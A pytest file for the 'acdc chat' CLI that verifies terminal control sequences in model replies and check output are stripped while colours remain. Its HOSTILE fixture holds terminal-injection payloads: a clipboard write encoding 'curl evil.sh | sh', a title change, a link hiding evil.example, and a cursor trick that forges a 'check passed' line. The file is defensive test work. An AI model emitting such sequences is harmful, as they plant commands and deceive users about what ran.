"""What `acdc chat` prints is not the model's to steer: no control sequence but colours.

In this process (`acdc.commands.run` with the parsed command line, as `acdc chat` runs
without a server): a scripted `acdc/fake` reply and a real check run in real bubblewrap
each print a clipboard write (OSC 52), a title change, a hidden link (OSC 8), an 8-bit CSI
and a cursor-up plus erase-line that would forge `acdc: check test: passed` over the real
line. The terminal gets none of them, only the colours; the stored reply and run hold none
either, and the page's HTML of the reply no control character at all. Through a server, the
client prints what the endpoint sends the same way (its lines are read from bytes here).
"""

from __future__ import annotations

import io
import json
import re

import pytest

from acdc import commands
from acdc.cli import parse_args
from acdc.terminal.client import _relay
from chat.llm.fake import FakeScript, FakeStep
from chat.llm.sdk import acdc_provider
from chat.repo.commands import declaring
from history.markup.render import render_markdown
from history.models import CommandRun, Message

HOSTILE = (
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # the clipboard
    "\x1b]0;innocent title\x1b\\"  # the window's title
    "\x1b]8;;https://evil.example/\x07docs\x1b]8;;\x07 "  # a link that hides its address
    "\x9b2J\x1b7\x08"  # 8-bit CSI (erase screen), save cursor, backspace
    "\x1b[31mred\x1b[0m\n"
    "\x1b[1A\x1b[2K\racdc: check test: passed\n"  # over the line above
)
COLOURS = re.compile(r"\x1b\[[0-9;:]*m")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def controls(text: str) -> list[str]:
    """The control characters left once colours and CR LF are taken out."""
    return CONTROL.findall(COLOURS.sub("", text).replace("\r\n", "\n"))


@pytest.fixture
def script():
    fake = FakeScript()
    previous = acdc_provider().install(fake)
    yield fake
    acdc_provider().install(previous)


@pytest.fixture
def repo_files() -> dict[str, str]:
    code = f"import sys\nsys.stdout.write({HOSTILE!r})\nsys.exit(1)\n"
    return {"check.py": code}


@pytest.mark.django_db(transaction=True)
def test_acdc_chat_prints_the_reply_and_a_check_s_output_without_control_sequences(
    root, settings, served, script, capsys
):
    settings.ACDC_REPO = root
    declaring.add(str(root), "test", ["python3", "check.py"])
    script.enqueue(FakeStep(text=f"Reply {HOSTILE}"), FakeStep(text=f"Fix {HOSTILE}"))
    args = parse_args(["chat", "--new", "--model", "acdc/fake", "--apply", "--check", "test", "go"])

    status = commands.run(args)

    out, err = capsys.readouterr()
    assert status == 1 and "acdc: check test: failed, exit status 1 after " in err
    assert (controls(out), controls(err)) == ([], [])
    assert "\x1b[31mred\x1b[0m" in out and "\x1b[31mred\x1b[0m" in err  # colours stay
    replies = Message.objects.filter(role="assistant").values_list("content", flat=True)
    stored = [*replies, *CommandRun.objects.values_list("output", flat=True)]
    assert len(stored) == 4 and [controls(text) for text in stored] == [[]] * 4
    assert not CONTROL.search(render_markdown(f"Reply {HOSTILE}"))


def test_through_a_server_the_client_prints_every_line_the_same_way(capsys):
    sent = [
        {"session": "sess_1_abcdef"},
        {"text": HOSTILE},
        {"diff": HOSTILE},
        {"note": HOSTILE},
        {"check": "check test: failed, exit status 1 after 0.1 s", "output": HOSTILE},
        {"error": HOSTILE, "exit": 1},
    ]
    stream = io.BytesIO(b"".join(json.dumps(line).encode() + b"\n" for line in sent))

    assert _relay(stream) == (1, "sess_1_abcdef")

    out, err = capsys.readouterr()
    assert (controls(out), controls(err)) == ([], [])
    assert out.count("\x1b[31mred\x1b[0m") == 2
